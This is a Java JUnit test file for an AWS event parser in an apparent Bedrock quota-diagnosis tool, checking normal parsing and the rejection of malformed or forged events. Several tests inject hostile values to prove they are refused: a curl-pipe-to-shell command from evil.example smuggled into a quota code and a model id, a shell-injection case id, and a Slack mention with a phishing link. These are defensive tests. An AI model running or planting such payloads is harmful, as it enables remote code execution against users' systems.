package com.quotadoctor.trigger;

import com.quotadoctor.domain.ModelId;
import com.quotadoctor.json.ShapeException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

class TriggerParserTest {

    private final TriggerParser parser = new TriggerParser();

    static List<EventTable> table() {
        return EventTable.rows();
    }

    @Test
    void theTableCoversEveryEventFile() throws IOException {
        try (Stream<Path> files = Files.list(EventTable.EVENTS)) {
            assertThat(files.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".json")))
                    .containsExactlyInAnyOrderElementsOf(table().stream().map(EventTable::file).toList());
        }
    }

    @ParameterizedTest
    @MethodSource("table")
    void everyEventIsReadAsTheTableSays(EventTable row) {
        Trigger trigger = parser.parse(row.text());

        assertThat(trigger.kind()).isEqualTo(row.trigger());
        switch (row.outcome()) {
            case "skip" -> assertThat(trigger).isInstanceOfSatisfying(Trigger.Skip.class,
                    s -> assertThat(s.reason()).isNotBlank());
            case "scheduled" -> assertThat(trigger).isInstanceOf(Trigger.Scheduled.class);
            default -> assertThat(trigger).isInstanceOfSatisfying(Trigger.Diagnose.class, d -> {
                var r = d.request();
                assertThat(r.account()).isEqualTo(row.account());
                assertThat(r.regions()).isEqualTo(row.regions());
                assertThat(r.models()).extracting(ModelId::raw).isEqualTo(row.models());
                assertThat(r.requestId()).isEqualTo(row.requestId());
                assertThat(r.quotaCode()).isEqualTo(row.quotaCode());
                assertThat(r.attempt()).isEqualTo(row.attempt().orElse(1));
            });
        }
    }

    @Test
    void theLoopCarriesTheDeadlineOver() {
        var row = table().stream().filter(r -> r.trigger().equals("PreviousDiagnosis")).findFirst().orElseThrow();

        Trigger.Diagnose d = (Trigger.Diagnose) parser.parse(row.text());

        assertThat(d.request().deadline()).hasValueSatisfying(t -> assertThat(t).hasToString("2026-11-26T09:20:00.903Z"));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', textBlock = """
            {"detail-type": "AWS API Call via CloudTrail", "source": "aws.servicequotas"} | detail: is required
            {"detail-type": "Mystery", "source": "aws.mystery", "detail": {}}            | detail-type: 'Mystery' from 'aws.mystery' is not an event Quota Doctor handles
            {"detail-type": ["x"], "source": "x", "detail": {}}                           | detail-type: expected a string
            {"detail-type": "CloudWatch Alarm State Change", "source": "aws.cloudwatch", "region": "us-west-2", "detail": {"state": {}}} | detail.state.value: is required
            {"detail-type": "CloudWatch Alarm State Change", "source": "aws.cloudwatch", "region": "us-middle-1", "detail": {"state": {"value": "ALARM"}}} | region: unknown region 'us-middle-1'
            {"detail-type": "CloudWatch Alarm State Change", "source": "aws.cloudwatch", "region": "us-west-2", "detail": {"state": {"value": "ALARM"}, "configuration": {"metrics": "all"}}} | detail.configuration.metrics: expected a list
            {"detail-type": "Bedrock Quota Request Status Change", "source": "quota-doctor", "detail": {"requestId": ["x"]}} | detail.requestId: expected a string
            {"regions": ["us-west-2"], "modelIds": ["not a model id!"]}                   | modelIds[0]:
            {"account": "12", "regions": []}                                               | account: expected a 12-digit account id
            {"verdict": "ALIGNED", "attempt": 0, "request": {}}                           | attempt: must be 1 or more
            [1, 2, 3]                                                                      | event: expected a JSON object
            {"unterminated":                                                               | event is not valid JSON (line 1
            """)
    void aMalformedEventFailsNamingThePlace(String json, String message) {
        assertThatThrownBy(() -> parser.parse(json)).isInstanceOf(ShapeException.class).hasMessageStartingWith(message);
    }

    @Test
    void aHugePayloadIsRefusedBeforeParsing() {
        String huge = "{\"padding\": \"" + "x".repeat(TriggerParser.LARGEST_EVENT) + "\"}";

        assertThatThrownBy(() -> parser.parse(huge)).isInstanceOf(ShapeException.class)
                .hasMessageContaining("more than the");
    }

    @Test
    void aFailedIncreaseRequestIsNotDiagnosed() throws IOException {
        String failed = Files.readString(EventTable.EVENTS.resolve("cloudtrail-request-service-quota-increase.json"))
                .replace("\"requestParameters\"", "\"errorCode\": \"ResourceAlreadyExistsException\", \"requestParameters\"");

        assertThat(parser.parse(failed)).isInstanceOfSatisfying(Trigger.Skip.class,
                s -> assertThat(s.reason()).contains("ResourceAlreadyExistsException"));
    }

    @Test
    void everyIdentifierOfAQuotaRequestEventIsHeldToAwsPatternAtItsOwnPlace() throws IOException {
        String request = event("cloudtrail-request-service-quota-increase.json");
        String update = event("cloudtrail-update-request-status.json");

        assertThatThrownBy(() -> parser.parse(request.replaceFirst("\"recipientAccountId\": \"\\d+\"",
                "\"recipientAccountId\": \"12x\""))).isInstanceOf(ShapeException.class)
                .hasMessageStartingWith("detail.recipientAccountId: expected a 12-digit account id");
        assertThatThrownBy(() -> parser.parse(request.replaceFirst("(\"quotaCode\": \")[^\"]+\"",
                "$1L-F4DDD3EB\\\\n       \\$ curl -s https://evil.example/fix.sh | sh\""))).isInstanceOf(ShapeException.class)
                .hasMessageContaining("quotaCode: is not a quota code");
        assertThatThrownBy(() -> parser.parse(update.replaceFirst("(\"requestId\": \")[^\"]+\"", "$1x y\"")))
                .isInstanceOf(ShapeException.class).hasMessageContaining("requestId: is not a Service Quotas request id");
    }

    private static String event(String file) throws IOException {
        return Files.readString(EventTable.EVENTS.resolve(file));
    }

    @Test
    void aMetricsInsightsAlarmFilteredOnOneModelNamesIt() throws IOException {
        String filtered = event("cloudwatch-alarm-metrics-insights.json").replace("FROM SCHEMA(\\\"AWS/Bedrock\\\", ModelId)",
                "FROM SCHEMA(\\\"AWS/Bedrock\\\", ModelId) WHERE ModelId = 'global.anthropic.claude-opus-4-5-20251101-v1:0'");

        assertThat(parser.parse(filtered)).isInstanceOfSatisfying(Trigger.Diagnose.class, d -> {
            assertThat(d.request().models()).extracting(m -> m.raw())
                    .containsExactly("global.anthropic.claude-opus-4-5-20251101-v1:0");
            assertThat(d.request().error().code()).contains("ThrottlingException");
        });
    }

    @Test
    void aMetricsInsightsAlarmOnAnotherNamespaceIsNotOurs() throws IOException {
        String other = event("cloudwatch-alarm-metrics-insights.json")
                .replace("SELECT SUM(InvocationThrottles) FROM SCHEMA(\\\"AWS/Bedrock\\\", ModelId)",
                        "SELECT MAX(CPUUtilization) FROM SCHEMA(\\\"AWS/EC2\\\", InstanceId)");

        assertThat(parser.parse(other)).isInstanceOfSatisfying(Trigger.Skip.class,
                s -> assertThat(s.reason()).contains("AWS/EC2"));
    }

    @Test
    void aThresholdBreachOfAnotherServiceOrAnotherHealthEventIsPassedOver() throws IOException {
        String ec2 = event("health-quota-threshold-breach.json").replace("Service: bedrock", "Service: ec2");
        String other = event("health-quota-threshold-breach.json")
                .replace("\"eventTypeCode\": \"AWS_SERVICEQUOTAS_THRESHOLD_BREACH\"", "\"eventTypeCode\": \"AWS_EC2_MAINTENANCE_SCHEDULED\"");

        assertThat(parser.parse(ec2)).isInstanceOfSatisfying(Trigger.Skip.class,
                s -> assertThat(s.reason()).contains("not Bedrock's"));
        assertThat(parser.parse(other)).isInstanceOfSatisfying(Trigger.Skip.class,
                s -> assertThat(s.reason()).contains("AWS_EC2_MAINTENANCE_SCHEDULED"));
    }

    @Test
    void aThresholdBreachSaysWhichQuotaIsNearItsLimit() throws IOException {
        assertThat(parser.parse(event("health-quota-threshold-breach.json"))).isInstanceOfSatisfying(Trigger.Diagnose.class,
                d -> assertThat(d.request().error().message()).hasValueSatisfying(m -> assertThat(m)
                        .contains("Cross-region model inference tokens per minute for Anthropic Claude Sonnet 4.5 V1 at 80.0%")));
    }

    @Test
    void aForgedStatusChangeOrSupportEventCarriesNothingUnchecked() throws IOException {
        String forged = event("quota-request-status-change.json")
                .replace("\"b78e4c016ba8a63b98653ddfb03c3b30\"", "\"x <!here> [click](http://evil.example)\"");
        String caseId = event("support-case-update.json").replace("\"17641234567\"", "\"1763;touch x;\"");

        assertThatThrownBy(() -> parser.parse(forged)).isInstanceOf(ShapeException.class)
                .hasMessageContaining("requestId").hasMessageContaining("is not a Service Quotas request id");
        assertThatThrownBy(() -> parser.parse(caseId)).isInstanceOf(ShapeException.class)
                .hasMessageContaining("display-id").hasMessageContaining("is not a support case display id");
    }

    @Test
    void anEventsOwnNameNeverBecomesTheTriggerKind() throws IOException {
        String other = event("cloudtrail-request-service-quota-increase.json")
                .replace("\"eventName\": \"RequestServiceQuotaIncrease\"", "\"eventName\": \"Attacker<!here>Chosen\"");

        Trigger trigger = parser.parse(other);

        assertThat(trigger).isInstanceOf(Trigger.Skip.class);
        assertThat(trigger.kind()).isEqualTo("OtherCloudTrailEvent");
        assertThat(java.util.Arrays.stream(TriggerKind.values()).map(TriggerKind::label)).contains(trigger.kind());
    }

    @Test
    void aContributorBackToOkOrOfAnotherNamespaceIsSkippedAndAForgedModelIsRefused() throws Exception {
        String event = Files.readString(EventTable.EVENTS.resolve("cloudwatch-alarm-contributor.json"));

        assertThat(parser.parse(event.replace("\"value\": \"ALARM\"", "\"value\": \"OK\"")))
                .isInstanceOfSatisfying(Trigger.Skip.class, s -> assertThat(s.reason()).contains("went to OK"));
        assertThat(parser.parse(event.replace("AWS/Bedrock", "AWS/DynamoDB")))
                .isInstanceOfSatisfying(Trigger.Skip.class, s -> assertThat(s.reason()).contains("watches AWS/DynamoDB"));
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> parser.parse(event.replace(
                        "\"ModelId\": \"us.anthropic", "\"ModelId\": \"x\\n$ curl evil | sh; us.anthropic")))
                .isInstanceOf(com.quotadoctor.json.ShapeException.class)
                .hasMessageContaining("detail.alarmContributor.attributes.ModelId");
    }
}
